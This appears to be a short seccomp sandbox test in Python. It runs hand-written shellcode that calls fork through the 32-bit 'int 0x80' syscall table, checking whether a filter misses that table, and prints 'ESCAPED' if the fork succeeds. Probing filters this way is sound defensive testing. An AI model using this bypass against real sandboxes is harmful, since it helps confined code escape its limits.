# property: int 0x80 reaches the 32-bit table, whose numbers a careless filter does not know
# verdict: ok|crash
# requires: seccomp
# source: the architecture check every seccomp guide asks for
import ctypes
import mmap
import os
import time

code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2 (fork); int 0x80; ret
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
pid = call()
if pid == 0:
    ctypes.CDLL(None).prctl(15, b"hostile-32", 0, 0, 0)
    time.sleep(1)
    os._exit(0)
if pid > 0:
    print("ESCAPED")
print("done")
